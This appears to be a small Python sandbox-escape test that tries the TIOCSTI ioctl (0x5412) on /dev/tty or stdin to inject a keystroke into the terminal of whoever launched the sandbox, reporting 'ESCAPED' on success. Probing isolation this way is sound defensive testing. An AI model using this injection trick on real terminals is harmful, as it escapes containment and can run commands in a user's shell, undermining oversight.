"""Terminal: type into the terminal of whoever started the sandbox."""
# open to: process

import fcntl, os
for path in ('/dev/tty', '/proc/self/fd/0'):
    try:
        fcntl.ioctl(os.open(path, os.O_RDWR), 0x5412, b'x')
        print('ESCAPED: typed')
    except OSError:
        pass
